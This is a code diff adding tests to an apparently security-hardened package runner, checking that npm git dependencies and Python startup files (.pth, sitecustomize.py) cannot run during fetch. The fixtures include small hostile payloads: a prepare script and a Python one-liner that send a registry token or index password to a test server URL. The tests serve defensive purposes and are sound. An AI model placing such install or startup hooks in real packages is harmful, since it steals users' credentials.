@@ -155,6 +155,36 @@ def test_an_install_script_does_not_say_what_was_fetched(world: World, registry:
     assert pin(world)["package"] == f"npm:{NAME} 1.0.0"
 
 
+@pytest.mark.parametrize(
+    ("settings", "needed"),
+    [("git=./told\n", "another"), ("@made:registry={told}/${{REGISTRY_TOKEN}}/\n", "@made/another"), ("", "another")],
+)
+def test_a_dependency_from_git_runs_nothing_and_learns_nothing(
+    world: World, registry: Registry, tmp_path: Path, settings: str, needed: str
+) -> None:
+    """npm prepares what comes from git by an installation of its own in there, under the settings that lie there."""
+    world.env["REGISTRY_TOKEN"] = "operators-own-token"
+    (world.home / ".npmrc").write_text(
+        f"registry={registry.url}/\n{registry.url.removeprefix('http:')}/:_authToken=${{REGISTRY_TOKEN}}\n"
+    )
+    del world.env["npm_config_registry"]
+    told = f"{registry.url}/told"
+    needs = {needed: registry.git("another", {"package.json": "{}"}, tmp_path) if "git" in settings else "1.0.0"}
+    described = {"name": "from-git", "version": "1.0.0", "scripts": {"prepare": "./told"}, "devDependencies": needs}
+    content = {
+        "package.json": json.dumps(described),
+        ".npmrc": settings.format(told=told),
+        "told": f"#!/bin/sh\n/usr/bin/git ls-remote {told}/$REGISTRY_TOKEN\n",
+    }
+    registry.npm("another", "1.0.0")
+    registry.npm(NAME, "1.0.0", dependencies={"from-git": registry.git("from-git", content, tmp_path)})
+    refused = world.wrap(command("npx"))
+    assert refused.wait() == 2
+    assert f"{NAME} could not be fetched" in refused.stderr
+    assert f"/{NAME}" in registry.asked
+    assert [path for path in registry.asked if "told" in path or ".git" in path] == []
+
+
 @pytest.mark.parametrize("programs", [["bin.js"], 7, {NAME: ["bin.js"]}, "a\0b", "/bin/sh", "../../../../bin/sh"])
 def test_a_package_that_says_nonsense_about_its_program_is_refused(tmp_path: Path, programs: object) -> None:
     package = tmp_path / "node_modules" / NAME
@@ -196,6 +226,28 @@ def test_a_source_distribution_is_built_only_where_the_operator_says_so_and_then
         assert wrapped.wait() == 2
         assert "--unsafe-install-scripts" in wrapped.stderr
     assert not marker.exists()
+
+
+@pytest.mark.parametrize("file", ["made.pth", "sitecustomize.py"])
+def test_what_python_runs_when_it_starts_does_not_run_while_it_is_fetched(
+    world: World, registry: Registry, file: str
+) -> None:
+    settings = world.home / ".config" / "uv" / "uv.toml"
+    settings.parent.mkdir(parents=True)
+    settings.write_text("[pip]\ncompile-bytecode = true\n")
+    world.env |= {"UV_INDEX_OWN_PASSWORD": "operators-own", "UV_COMPILE_BYTECODE": "1"}
+    told = f"{registry.url}/told/"
+    asking = "import os, urllib.request as r; os.environ.get('UV_INDEX_OWN_PASSWORD')"
+    text = f"{asking} and r.urlopen('{told}' + os.environ['UV_INDEX_OWN_PASSWORD'])\n"
+    registry.wheel(NAME, "1.0.0", more={file: text})
+    server = start(world, command("uvx"))
+    assert server.text("version") == "1.0.0"
+    where = server.text("where")
+    assert server.text("read", spelt=spelt(f"{where}/{file}")) == text
+    [compiled] = Path(where, "__pycache__").glob("made_server.*.pyc")
+    assert compiled.stat().st_size
+    assert server.end() == 0
+    assert [path for path in registry.asked if "told" in path] == []
 
 
 BUILD = """
